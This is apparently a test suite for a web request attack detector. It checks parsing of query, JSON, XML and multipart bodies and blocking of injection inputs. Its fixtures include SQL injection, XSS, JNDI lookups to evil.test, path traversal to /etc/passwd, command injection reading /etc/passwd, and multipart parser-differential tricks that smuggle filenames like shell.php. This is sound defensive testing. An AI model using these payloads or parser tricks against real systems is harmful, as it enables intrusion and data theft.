import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileDetector, DetectOptionsError, extractInputs, type Input } from './index.ts';

const q = (value: string, name = 'q'): Input[] => [{ location: 'query', name, value }];

test('options are validated once, at compile time', () => {
  assert.throws(() => compileDetector({ paranoia: 5 as 1 }), DetectOptionsError);
  assert.throws(() => compileDetector({ threshold: -1 }), DetectOptionsError);
  assert.throws(() => compileDetector({ classes: { nope: true } as never }), /unknown attack class "nope"/);
  assert.throws(() => compileDetector({ exclusions: [{ name: 'a', allow: ['sqlx' as 'sqli'] }] }), DetectOptionsError);
  assert.doesNotThrow(() => compileDetector({ paranoia: 1, classes: { xss: false, sqli: { paranoia: 3 } } }));
});

test('a verdict names the class, the input and a short evidence', () => {
  const v = compileDetector().inspect(q(`1' OR '1'='1' -- ${'x'.repeat(500)}`, 'id'));
  assert.equal(v.blocked, true);
  const m = v.matches[0]!;
  assert.equal(m.class, 'sqli');
  assert.equal(m.location, 'query');
  assert.equal(m.name, 'id');
  assert.ok(m.evidence.length <= 81, m.evidence);
});

test('ordinary values pass', () => {
  const d = compileDetector();
  for (const value of ["O'Brien", 'jane.doe+tag@example.com', '550e8400-e29b-41d4-a716-446655440000', '42', 'Rock & roll, 1950s',
    'I tried select and union in my query but nothing worked', 'https://example.com/a?b=c', '5 > 3 and 2 < 4']) {
    assert.equal(d.inspect(q(value)).blocked, false, value);
  }
});

test('exclusions allow a class for a named input, or everything', () => {
  const payload = q("' or 1=1 --", 'filter');
  assert.equal(compileDetector({ exclusions: [{ name: 'filter', allow: ['sqli'] }] }).inspect(payload).blocked, false);
  assert.equal(compileDetector({ exclusions: [{ name: /^fil/, location: 'query', allow: 'all' }] }).inspect(payload).blocked, false);
  assert.equal(compileDetector({ exclusions: [{ name: 'filter', location: 'body', allow: 'all' }] }).inspect(payload).blocked, true);
  assert.equal(compileDetector({ classes: { sqli: false } }).inspect(payload).blocked, false);
});

test('paranoia levels add detections', () => {
  const probe = q('COALESCE(');
  assert.equal(compileDetector({ paranoia: 1 }).inspect(probe).blocked, false);
  assert.equal(compileDetector({ paranoia: 2 }).inspect(probe).blocked, true);
});

test('never throws, whatever the input', () => {
  const d = compileDetector({ paranoia: 4 });
  const weird = ['\u0000', '\ud800', '%', '%u', '%uZZZZ', '&#99999999;', '\\u{110000}', '%c0', '%ff%fe', '<'.repeat(1000), '${'.repeat(500), '<!--'];
  for (const value of weird) assert.equal(d.inspect(q(value)).error, false, JSON.stringify(value));
  assert.doesNotThrow(() => d.inspect([{ location: 'query', name: null as never, value: 42 as never }]));
  assert.doesNotThrow(() => d.inspectRequest({ method: 'POST', path: '/%', headers: { 'content-type': 'application/json' }, body: '{"a":' }));
  assert.doesNotThrow(() => d.inspectRequest({ method: 'POST', path: '/', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: '--x\r\n\r\n' }));
});

test('long values are inspected up to the limit; the verdict says so and blocks unless onTruncated is allow', () => {
  const v = compileDetector({ maxValueLength: 100 }).inspect(q(`${'a'.repeat(200)}<script>`));
  assert.equal(v.truncated, true);
  assert.equal(v.blocked, true);
  assert.equal(v.score, 0);
  const allowed = compileDetector({ maxValueLength: 100, onTruncated: 'allow' }).inspect(q(`${'a'.repeat(200)}<script>`));
  assert.equal(allowed.truncated, true);
  assert.equal(allowed.blocked, false);
  assert.throws(() => compileDetector({ onTruncated: 'pass' as never }), /onTruncated/);
});

test('every extractor limit marks the verdict truncated; requests under the limits are not', () => {
  const d = compileDetector();
  const attack = "1' OR 1=1-- <script>alert(1)</script>";
  const req = (contentType: string, body: string) => d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType, body });
  const long = 'A'.repeat(131073) + attack;
  for (const [ct, body] of [
    ['application/json', JSON.stringify({ q: long })],
    ['application/x-www-form-urlencoded', `q=${long}`],
    ['text/plain', long],
    ['multipart/form-data; boundary=B', `--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n${long}\r\n--B--\r\n`],
  ] as const) assert.equal(req(ct, body).truncated, true, ct);
  const pairs = (n: number) => Array.from({ length: n }, (_, i) => `p${i}=v`).join('&');
  const parts = (n: number) => Array.from({ length: n }, (_, i) => `--B\r\nContent-Disposition: form-data; name="p${i}"\r\n\r\nv\r\n`).join('') + '--B--\r\n';
  const xml = (n: number) => `<r>${'<a>v</a>'.repeat(n)}</r>`;
  const over: [string, string][] = [
    ['application/x-www-form-urlencoded', `${pairs(1000)}&q=${encodeURIComponent(attack)}`],
    ['application/json', JSON.stringify({ a: Array(10000).fill(1), q: attack })],
    ['application/json', JSON.stringify([...Array(10000).fill('x'), attack])],
    ['application/xml', `<r>${'<a>v</a>'.repeat(2000)}<q>${attack}</q></r>`],
    ['multipart/form-data; boundary=B', parts(1000) .replace('--B--\r\n', `--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n${attack}\r\n--B--\r\n`)],
  ];
  for (const [ct, body] of over) {
    const v = req(ct, body);
    assert.ok(v.truncated && v.blocked, `${ct} over the limit`);
  }
  assert.equal(d.inspectRequest({ method: 'GET', path: '/', rawQuery: `${pairs(1000)}&q=1`, headers: {} }).truncated, true);
  const under: [string, string][] = [
    ['application/x-www-form-urlencoded', pairs(1000)],
    ['application/x-www-form-urlencoded', `${pairs(1000)}&&`],
    ['application/json', JSON.stringify({ a: Array(9990).fill(1) })],
    ['application/json', JSON.stringify({ note: 'n'.repeat(131072) })],
    ['application/xml', xml(1300)],
    ['multipart/form-data; boundary=B', parts(1000)],
  ];
  for (const [ct, body] of under) {
    const v = req(ct, body);
    assert.ok(!v.truncated && !v.blocked, `${ct} under the limit`);
  }
  // Deeper than maxJsonDepth: the rest is inspected as text, whole (it used to be cut at 64 KiB).
  let deep: unknown = { q: 'x'.repeat(70000) + attack };
  for (let i = 0; i < 40; i++) deep = { a: deep };
  assert.equal(req('application/json', JSON.stringify(deep)).score >= 5, true);
});

test('multipart: delimiters only at the start of a line; structured file parts are read; long fields whole', () => {
  const d = compileDetector();
  const mp = (body: string) => d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: 'multipart/form-data; boundary=XyZ', body });
  const attack = "1' OR 1=1-- <script>alert(1)</script>";
  // A fake part inside a field value: real parsers see one field holding all of it.
  const fake = `--XyZ\r\nContent-Disposition: form-data; name="q"\r\n\r\nhi --XyZ\r\nContent-Disposition: form-data; name="f"; filename="x.png"\r\nContent-Type: image/png\r\n\r\n${attack}\r\n--XyZ--\r\n`;
  const v = mp(fake);
  assert.ok(v.blocked && v.matches.some((m) => m.location === 'multipart' && m.name === 'q'), JSON.stringify(v));
  // A line that starts like the delimiter but goes on is read differently by different parsers:
  // refused whatever the options (malformed), not merely truncated.
  const odd = `--XyZ\r\nContent-Disposition: form-data; name="q"\r\n\r\nhi\r\n--XyZabc\r\nContent-Disposition: form-data; name="f"; filename="x.png"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XyZ--\r\n`;
  for (const detector of [d, compileDetector({ onTruncated: 'allow', threshold: 1000 })]) {
    const verdict = detector.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: 'multipart/form-data; boundary=XyZ', body: odd });
    assert.ok(verdict.blocked && /does not end with CRLF/.test(verdict.malformed ?? ''), JSON.stringify(verdict));
  }
  // Delimiters with LF only (busboy sees no part there, PHP and Go do), transport padding: refused.
  const lf = `--XyZ\nContent-Disposition: form-data; name="a"\n\nplain\n--XyZ--\n`;
  assert.ok(mp(lf).blocked && mp(lf).malformed !== undefined);
  assert.ok(mp(`--XyZ \r\nContent-Disposition: form-data; name="a"\r\n\r\nplain\r\n--XyZ--\r\n`).malformed);
  assert.equal(mp(`preamble\r\n--XyZ\r\nContent-Disposition: form-data; name="a"\r\n\r\nplain\r\n--XyZ--\r\n`).blocked, false);
  // JSON, XML and form files are deserialized by frameworks: read them.
  const file = (type: string, name: string, content: string) =>
    mp(`--XyZ\r\nContent-Disposition: form-data; name="d"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XyZ--\r\n`);
  assert.ok(file('application/json', 'd.json', '{"q":"1\' OR 1=1--"}').blocked);
  assert.ok(file('application/xml', 'd.xml', '<q>1\' OR 1=1--</q>').blocked);
  assert.ok(file('application/x-www-form-urlencoded', 'd.txt', 'q=1%27%20OR%201%3D1--').blocked);
  assert.ok(!file('application/json', 'd.json', '{"q":"hello","n":[1,2]}').blocked);
  assert.ok(!file('image/png', 'x.png', attack).blocked, 'binary files are still not inspected');
  // A field longer than 64 KiB is inspected up to maxValueLength.
  const long = `--XyZ\r\nContent-Disposition: form-data; name="q"\r\n\r\n${'A'.repeat(65536)}${attack}\r\n--XyZ--\r\n`;
  const lv = mp(long);
  assert.ok(lv.score >= 5 && !lv.truncated);
});

test('XML: text split by CDATA sections or comments is joined before inspection', () => {
  const d = compileDetector();
  const xml = (body: string) => d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: 'application/xml', body });
  assert.ok(xml("<r><q>1' OR <![CDATA[1=1--]]></q></r>").matches.some((m) => m.class === 'sqli'));
  assert.ok(xml('<r><q>${jn<!---->di:ldap://x/a}</q></r>').matches.some((m) => m.class === 'jndi'));
  assert.ok(xml('<r><q><![CDATA[<scr]]><![CDATA[ipt>alert(1)</script>]]></q></r>').blocked);
  assert.ok(!xml('<r><q>hello <![CDATA[world]]> <!-- c --> again</q><n>1</n></r>').blocked);
  const inputs = extractInputs({ method: 'POST', path: '/', headers: {}, contentType: 'application/xml', body: '<r><q>a &amp; <![CDATA[b]]><!-- x -->c</q></r>' });
  assert.ok(inputs.some((i) => i.location === 'xml' && i.name === 'r/q' && i.value === 'a & bc'));
  assert.ok(inputs.some((i) => i.location === 'xml' && i.name === 'r/q' && i.value === 'a &'), 'pieces too');
});

test('extractInputs: path, query with brackets, cookies, headers, JSON keys and leaves', () => {
  const inputs = extractInputs({
    method: 'POST',
    path: '/v1/users/42',
    rawQuery: 'user[$ne]=x&a=1&a=2&q=caf%C3%A9+au+lait',
    headers: { cookie: 'sid=abc; theme=dark', 'user-agent': 'ua', authorization: 'Bearer t', 'content-type': 'application/json' },
    body: '{"profile":{"name":"Ann","tags":["a"]},"__proto__":{"x":1}}',
  });
  const has = (location: string, name: string, value: string) =>
    assert.ok(inputs.some((i) => i.location === location && i.name === name && i.value === value), `${location} ${name}=${value}`);
  has('path', '', '/v1/users/42');
  has('path', '3', '42');
  has('query', 'user[$ne]', 'x');
  has('query', 'a', '2');
  has('query', 'q', 'café au lait');
  has('cookie', 'theme', 'dark');
  has('header', 'user-agent', 'ua');
  has('body', '$.profile.name', 'Ann');
  has('body', '$.profile.tags[0]', 'a');
  has('json-key', '$.__proto__', '__proto__');
  // A bearer token is inspected for lookups and line breaks only.
  assert.deepEqual(inputs.filter((i) => i.name === 'authorization'), [{ location: 'header-other', name: 'authorization', value: 'Bearer t' }]);
});

test('headers outside the full set: jndi, crlf and traversal only (SQLi and XSS too in those applications store); a Basic user name fully', () => {
  const d = compileDetector();
  const verdict = (headers: Record<string, string>) => d.inspectRequest({ method: 'GET', path: '/', headers });
  assert.ok(verdict({ 'x-correlation-id': '${jndi:ldap://evil.test/a}' }).blocked);
  assert.ok(verdict({ 'accept-language': '../../../../etc/passwd' }).blocked);
  // Other classes are not looked for there: no false positive on a header's own grammar.
  assert.ok(!verdict({ 'cache-control': `"1' OR '1'='1" --` }).blocked);
  assert.ok(verdict({ 'if-none-match': `"1' OR '1'='1" --` }).blocked, 'an entity tag an application may compare in SQL');
  assert.ok(!verdict({ accept: '<script>alert(1)</script>' }).blocked);
  assert.ok(!verdict({ authorization: 'Bearer ../../../../etc/passwd' }).blocked);
  assert.ok(verdict({ authorization: 'Bearer ${jndi:ldap://evil.test/a}' }).blocked);
  const basic = (s: string) => ({ authorization: `Basic ${Buffer.from(s).toString('base64')}` });
  const v = verdict(basic("admin' OR 1=1--:pw"));
  assert.ok(v.blocked);
  assert.deepEqual(v.matches.map((m) => [m.class, m.location, m.name]), [['sqli', 'header', 'authorization']]);
  // The password is not inspected (nor copied into an input).
  assert.ok(!verdict(basic("alice:' OR 1=1--")).blocked);
  assert.ok(!d.extract({ method: 'GET', path: '/', headers: basic('alice:secret') }).some((i) => i.value.includes('secret')));
});

test('a multipart label over a body without parts, or without a boundary: malformed, blocked', () => {
  const d = compileDetector({ onTruncated: 'allow' });
  const post = (body: string, contentType = 'multipart/form-data; boundary=x') => d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType, body });
  for (const body of ['{"host":"8.8.8.8; cat /etc/passwd"}', 'host=1;cat /etc/passwd', '{"host":"8.8.8.8"}']) {
    const v = post(body);
    assert.ok(v.blocked && v.malformed === 'has no opening boundary', body);
  }
  assert.equal(post('--x--', 'multipart/form-data').malformed, 'has no valid boundary parameter');
  assert.equal(post('--x--', 'multipart/form-data; boundary=x; boundary=x').malformed, 'has no valid boundary parameter');
  assert.equal(post('--x--\r\n').blocked, false, 'an empty form');
});

test('multipart bodies upstream parsers read differently are malformed (blocked whatever the options)', () => {
  const d = compileDetector({ onTruncated: 'allow', threshold: 1000 });
  const sqli = "x' OR 1=1--";
  const cases: [string, string, string?][] = [
    ['parts after the close delimiter (PHP reads them)', `--B\r\nContent-Disposition: form-data; name="name"\r\n\r\nbob\r\n--B--\r\n--B\r\nContent-Disposition: form-data; name="role"\r\n\r\nadmin\r\n--B\r\nContent-Disposition: form-data; name="name"\r\n\r\n${sqli}\r\n--B--\r\n`],
    ['a delimiter after a bare LF (busboy reads one field)', `--B\r\nContent-Disposition: form-data; name="q"\r\n\r\nok\n--B\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\nContent-Type: application/octet-stream\r\n\r\n1' OR '1'='1\r\n--B--\r\n`],
    ['two Content-Disposition (PHP and Werkzeug take the first)', `--B\r\nContent-Disposition: form-data; name="q"\r\nContent-Disposition: form-data; name="q"; filename="a.bin"\r\nContent-Type: application/octet-stream\r\n\r\n${sqli}\r\n--B--\r\n`],
    ["a parameter quoted with ' (PHP sees a field)", `--B\r\nContent-Disposition: form-data; name="q"; x='; filename="a.bin"'\r\nContent-Type: application/octet-stream\r\n\r\n${sqli}\r\n--B--\r\n`],
    ['filename* alone (PHP sees a field)', `--B\r\nContent-Disposition: form-data; name="q"; filename*=UTF-8''a.bin\r\nContent-Type: application/octet-stream\r\n\r\n${sqli}\r\n--B--\r\n`],
    ['a field in UTF-16 (busboy decodes it)', `--B\r\nContent-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset=utf-16le\r\n\r\nx\r\n--B--\r\n`],
    ['a boundary inside another parameter (PHP takes Z)', `--Z\r\nContent-Disposition: form-data; name="q"\r\n\r\n${sqli}\r\n--Z--\r\n`, 'multipart/form-data; xboundary=Z; boundary=B'],
  ];
  for (const [what, body, type] of cases) {
    const v = d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: type ?? 'multipart/form-data; boundary=B', body });
    assert.ok(v.blocked && v.malformed !== undefined, what);
  }
});

test('multipart filename*: both names are inspected (busboy and Werkzeug read filename*, PHP filename)', () => {
  const d = compileDetector();
  const file = (disposition: string) =>
    d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: 'multipart/form-data; boundary=B', body: `--B\r\nContent-Disposition: form-data; name="f"; ${disposition}\r\nContent-Type: application/octet-stream\r\n\r\nabc\r\n--B--\r\n` });
  const traversal = file(`filename="passwd"; filename*=UTF-8''..%2F..%2F..%2Fetc%2Fpasswd`);
  assert.ok(traversal.blocked && traversal.matches.some((m) => m.class === 'traversal' && m.name === 'f.filename'), JSON.stringify(traversal));
  assert.ok(file(`filename="a.png"; filename*=UTF-8''%3Csvg%20onload%3Dalert(1)%3E.png`).blocked);
  assert.ok(file(`filename="../../../etc/passwd"; filename*=UTF-8''a.png`).blocked);
  assert.ok(!file(`filename="report.pdf"; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf`).blocked);
});

test('multipart filename with backslashes: a Windows path passes, and every reading of it is inspected', () => {
  const d = compileDetector();
  const file = (filename: string) =>
    d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: 'multipart/form-data; boundary=B', body: `--B\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\nabc\r\n--B--\r\n` });
  assert.ok(!file('C:\\Users\\me\\report.pdf').blocked, 'an old browser sends the full path');
  assert.ok(!file('a\\\\b.txt').blocked, "curl's escaped backslash");
  // busboy and Werkzeug take "\\h" as "h": they save shell.php.
  const escaped = file('shell.p\\hp');
  assert.ok(escaped.blocked && escaped.malformed === undefined, JSON.stringify(escaped));
  // PHP keeps what follows the last backslash: .htaccess.
  assert.ok(file('x\\.htaccess').blocked);
  const beforeQuote = file('a\\');
  assert.ok(beforeQuote.blocked && beforeQuote.malformed !== undefined, 'a backslash before the closing quote escapes it to some parsers');
});

test('multipart: well-formed bodies pass, fields inspected, binary files not', async () => {
  const d = compileDetector();
  const form = new FormData();
  form.set('caption', 'Mé at the beach, "quoted"');
  form.set('photo', new Blob([new Uint8Array([0x89, 0x50, 0x4e, 0x47]), "1' OR 1=1--"], { type: 'image/png' }), 'me.png');
  const res = new Response(form);
  const body = Buffer.from(await res.arrayBuffer());
  const contentType = res.headers.get('content-type')!;
  const ok = d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType, body });
  assert.ok(!ok.blocked && ok.malformed === undefined, JSON.stringify(ok));
  const inputs = d.extract({ method: 'POST', path: '/', headers: {}, contentType, body });
  assert.ok(inputs.some((i) => i.location === 'multipart' && i.name === 'caption' && i.value === 'Mé at the beach, "quoted"'));
  assert.ok(inputs.some((i) => i.location === 'multipart' && i.name === 'photo.filename' && i.value === 'me.png'));
  form.set('caption', "1' OR 1=1--");
  const attack = new Response(form);
  assert.ok(d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: attack.headers.get('content-type')!, body: Buffer.from(await attack.arrayBuffer()) }).blocked);
  // multipart/related: parts without Content-Disposition are read too (name "").
  const related = d.inspectRequest({ method: 'POST', path: '/', headers: {}, contentType: 'multipart/related; boundary=B', body: `--B\r\nContent-Type: application/json\r\n\r\n{"q":"1' OR 1=1--"}\r\n--B--\r\n` });
  assert.ok(related.blocked && related.malformed === undefined);
});

test('extractInputs: urlencoded, multipart and XML bodies', () => {
  const form = extractInputs({ method: 'POST', path: '/', headers: {}, contentType: 'application/x-www-form-urlencoded', body: 'a=1+2&b=%3Cx%3E' });
  assert.ok(form.some((i) => i.location === 'form' && i.name === 'b' && i.value === '<x>'));
  const mp = extractInputs({
    method: 'POST',
    path: '/',
    headers: {},
    contentType: 'multipart/form-data; boundary=XX',
    body: '--XX\r\nContent-Disposition: form-data; name="title"\r\n\r\nHello\r\n--XX\r\nContent-Disposition: form-data; name="f"; filename="../a.php"\r\nContent-Type: application/octet-stream\r\n\r\nBIN\r\n--XX--\r\n',
  });
  assert.ok(mp.some((i) => i.location === 'multipart' && i.name === 'title' && i.value === 'Hello'));
  assert.ok(mp.some((i) => i.location === 'multipart' && i.name === 'f.filename' && i.value === '../a.php'));
  const xml = extractInputs({ method: 'POST', path: '/', headers: {}, contentType: 'application/xml', body: '<a x="1 &amp; 2"><b>t&lt;</b></a>' });
  assert.ok(xml.some((i) => i.location === 'xml' && i.name === '#document'));
  assert.ok(xml.some((i) => i.location === 'xml' && i.value === '1 & 2'));
  assert.ok(xml.some((i) => i.location === 'xml' && i.value === 't<'));
});

test('extractInputs: a form pair whose name is no name is also read whole; Referer parameters', () => {
  const form = extractInputs({ method: 'POST', path: '/', headers: {}, contentType: 'application/x-www-form-urlencoded', body: "a=1&'x', 'y'='y'" });
  assert.ok(form.some((i) => i.location === 'form' && i.name === 'a' && i.value === '1'));
  assert.ok(form.some((i) => i.location === 'form' && i.name === "'x', 'y'" && i.value === "'x', 'y'='y'"));
  assert.ok(!form.some((i) => i.value === 'a=1'), 'ordinary pairs are not duplicated');
  const hdr = extractInputs({ method: 'GET', path: '/', headers: { referer: 'https://a.example/p?q=one+two&r=%3Cx%3E#f=x+y' } });
  assert.ok(hdr.some((i) => i.location === 'header' && i.name === 'referer' && i.value.startsWith('https://')));
  for (const v of ['one two', '<x>', 'x y']) assert.ok(hdr.some((i) => i.location === 'header' && i.name === 'referer' && i.value === v), v);
  const v = compileDetector().inspectRequest({ method: 'GET', path: '/', rawQuery: '', headers: { referer: 'https://a.example/#x=1;cat$u+/etc$u/passwd' } });
  assert.ok(v.blocked && v.matches.some((m) => m.class === 'cmdi'));
});

test('extractInputs: every copy of a repeated JSON key, shallow or deeper than the walk goes', () => {
  const json = (body: string) => extractInputs({ method: 'POST', path: '/', rawQuery: '', headers: { 'content-type': 'application/json' }, body });
  const values = (body: string) => json(body).filter((i) => i.location === 'body').map((i) => i.value);
  assert.deepEqual(values('{"q":"first","q":"last","n":{"r":"a","r":"b"}}'), ['first', 'last', 'a', 'b']);
  const deep = `${'{"a":'.repeat(40)}{"q":"first","q":"last"}${'}'.repeat(40)}`;
  assert.ok(values(deep).some((v) => v.includes('"first"')), 'the first copy, in the source text handed over whole');
  assert.deepEqual(values('{"a":"x:y","b":"\\":"}'), ['x:y', '":'], 'colons in strings: no copies');
});

test('extractInputs: the strings of a JSON body JSON.parse rejects, in one linear pass', () => {
  const values = (body: string) =>
    extractInputs({ method: 'POST', path: '/', rawQuery: '', headers: { 'content-type': 'application/json' }, body }).filter((i) => i.location === 'body').map((i) => i.value);
  assert.deepEqual(values('{"n":NaN,"q":"admin\'--","e":"\\u0041"}'), ['n', 'q', "admin'--", 'e', 'A', '{"n":NaN,"q":"admin\'--","e":"\\u0041"}']);
  assert.deepEqual(values('{"a":"open'), ['a', 'open', '{"a":"open'], 'an unclosed string runs to the end');
  // Escaped quotes in an unclosed string: each would restart a backtracking match.
  const hostile = `{"a":"${'\\"'.repeat(200_000)}`;
  const started = performance.now();
  values(hostile);
  assert.ok(performance.now() - started < 1000, `took ${Math.round(performance.now() - started)} ms`);
});

test('a multipart part with an empty filename is a field to busboy, ASP.NET Core and Go: inspected', () => {
  const body = '--B\r\nContent-Disposition: form-data; name="q"; filename=""\r\nContent-Type: image/png\r\n\r\n1\' OR \'1\'=\'1\' UNION SELECT password FROM users--\r\n--B--\r\n';
  const verdict = compileDetector({}).inspectRequest({ method: 'POST', path: '/', rawQuery: '', headers: { 'content-type': 'multipart/form-data; boundary=B' }, body, contentType: 'multipart/form-data; boundary=B' });
  assert.equal(verdict.blocked, true);
});
